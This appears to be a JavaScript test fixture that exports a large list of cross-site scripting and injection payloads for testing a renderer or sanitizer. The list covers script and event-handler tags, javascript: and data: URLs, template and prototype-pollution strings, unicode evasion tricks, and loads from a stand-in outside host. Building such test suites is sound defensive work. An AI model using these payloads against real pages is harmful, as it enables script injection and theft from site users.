/**
 * Words that would run something where a page takes them for markup, an address or code. Each sets `__xss`, opens a dialog or
 * fetches from a stranger, if anything in it runs.
 */

const run = 'window.__xss=1'
const called = `alert(1);${run}`
const stranger = 'https://stranger.example/x'

const elements = [
  ...[`<script>${run}</script>`, `<SCRIPT SRC=${stranger}.js></SCRIPT>`, `<scr<script>ipt>${run}</scr</script>ipt>`],
  ...[
    `<img src=x onerror=${run}>`,
    `<img src=${stranger}.png>`,
    `<img/src=x/onerror=${run}>`,
    `<image href=x onerror=${run}>`,
  ],
  ...[
    `<svg onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  ],
  ...[
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}/>#x">`,
    `<svg><a xlink:href="javascript:${run}"><text>x</text></a>`,
  ],
  ...[
    `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
    `<math><mtext></mtext><style><img src=x onerror=${run}></style>`,
  ],
  ...[
    `<iframe src="javascript:${run}">`,
    `<iframe srcdoc="<script>parent.__xss=1</script>">`,
    `<iframe src=${stranger}>`,
  ],
  ...[`<object data="javascript:${run}">`, `<embed src="javascript:${run}">`, `<base href="${stranger}/">`],
  ...[
    `<body onload=${run}>`,
    `<details open ontoggle=${run}>`,
    `<video><source onerror=${run}></video>`,
    `<audio src=x onerror=${run}>`,
  ],
  ...[`<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`],
  ...[
    `<a href="javascript:${run}">x</a>`,
    `<form action="javascript:${run}"><button>x</button></form>`,
    `<button onclick=${run}>x`,
  ],
  ...[`<meta http-equiv=refresh content="0;url=${stranger}">`, `<link rel=stylesheet href=${stranger}.css>`],
  ...[
    `<style>@import "${stranger}.css"</style>`,
    `<div style="background:url(${stranger})">`,
    `<marquee onstart=${run}>x</marquee>`,
  ],
  ...[`<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><script>${run}</script></template>`],
  ...[
    `<!--><img src=x onerror=${run}>-->`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<?xml ?><img src=x onerror=${run}>`,
  ],
]

const breaks = [
  ...[
    `"><img src=x onerror=${run}>`,
    `'><svg onload=${run}>`,
    `\`><script>${run}</script>`,
    `" autofocus onfocus="${run}`,
  ],
  ...[
    `' onmouseover='${run}`,
    `</textarea><script>${run}</script>`,
    `</title><script>${run}</script>`,
    `</style><script>${run}</script>`,
  ],
  ...[
    `</script><script>${run}</script>`,
    `-->${`<script>${run}</script>`}`,
    `";${run};//`,
    `';${run};//`,
    `\\';${run};//`,
  ],
  ...[
    `\${${run}}`,
    `{{constructor.constructor('${run}')()}}`,
    `<%= ${run} %>`,
    `#{${run}}`,
    `[[${run}]]`,
    `\`;${run};\``,
  ],
  ...[
    `__proto__`,
    `constructor`,
    `{"__proto__":{"polluted":1}}`,
    `$&$1$\`$'`,
    `%s%s%n`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
  ],
  ...[
    `&#60;script&#62;${run}&#60;/script&#62;`,
    `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `%3Cscript%3E${run}%3C/script%3E`,
  ],
]

const addresses = [
  ...[
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    ` javascript:${run}`,
    `java\tscript:${run}`,
    `java\nscript:${run}`,
    `\u0001javascript:${run}`,
  ],
  ...[
    `javascript://example.org/%0a${run}`,
    `data:text/html,<script>${run}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  ],
  ...[
    `vbscript:${called}`,
    `view-source:${stranger}`,
    `file:///etc/passwd`,
    `blob:${stranger}`,
    `about:blank#${run}`,
    `//stranger.example/x`,
  ],
  ...[
    `https://example.org/"onmouseover="${run}`,
    `https://example.org/'><img src=x onerror=${run}>`,
    `https://user:pass@stranger.example`,
  ],
  ...[
    `[x](javascript:${run})`,
    `![x](${stranger}.png)`,
    `[x](data:text/html,<script>${run}</script>)`,
    `<javascript:${run}>`,
  ],
  ...[
    `<@uid:"><img src=x onerror=${run}>>`,
    `<@uid:javascript:${run}>`,
    `<@all:<script>${run}</script>>`,
    `#/user/<img src=x onerror=${run}>`,
  ],
]

const tricks = [
  ...[
    `\u202e<script>${run}</script>`,
    `\u2066\u202e>gpj.exe`,
    `\u200b<\u200bscript>${run}`,
    `＜script＞${run}＜/script＞`,
    `<ſcript>${run}</ſcript>`,
  ],
  ...[
    `<script\u00a0>${run}</script>`,
    `<script\u2028>${run}</script>`,
    `<img src=x\u000bonerror=${run}>`,
    `\ufeff<svg onload=${run}>`,
  ],
  ...[
    `a${'\u0301'.repeat(100)}<svg onload=${run}>`,
    `👩‍👩‍👧‍👦<img src=x onerror=${run}>`,
    `مرحبا<img src=x onerror=${run}>`,
    `\u061c"><svg onload=${run}>`,
  ],
  ...[
    `<IMG SRC=x ONERROR=${run}>`,
    `<img src=x onerror=eval(atob('d2luZG93Ll9feHNzPTE='))>`,
    `<img src=x onerror="&#119;indow.__xss=1">`,
  ],
  ...[
    `\`\`\`<script>${run}</script>\`\`\``,
    `\`<img src=x onerror=${run}>\``,
    `**<svg onload=${run}>**`,
    `:<svg onload=${run}>:`,
  ],
]

const once = [...elements, ...breaks, ...addresses, ...tricks]
/** The same beside and inside of other words, where what reads links, mentions and code has more to stumble over. */
const dressed = once.map((payload, n) =>
  n % 2 === 0 ? `see https://example.org/${payload} and` : `@Nora ${payload}\n\`${payload}\``,
)

export const payloads = [...once, ...dressed]
